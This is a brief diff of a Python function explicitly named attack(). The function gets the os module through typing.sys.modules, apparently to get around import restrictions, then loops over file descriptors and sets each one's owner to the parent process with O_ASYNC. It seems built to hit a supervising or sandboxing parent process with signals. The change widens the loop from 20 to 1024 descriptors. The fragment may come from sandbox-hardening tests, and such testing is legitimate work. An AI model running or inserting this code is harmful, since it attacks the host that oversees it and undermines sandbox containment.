@@ -7,7 +7,7 @@ os = typing.sys.modules["os"]
 
 
 def attack():
-    for handle in range(3, 20):
+    for handle in range(3, 1024):
         try:
             fcntl.fcntl(handle, fcntl.F_SETOWN, os.getppid())
             fcntl.fcntl(handle, fcntl.F_SETFL, os.O_ASYNC)
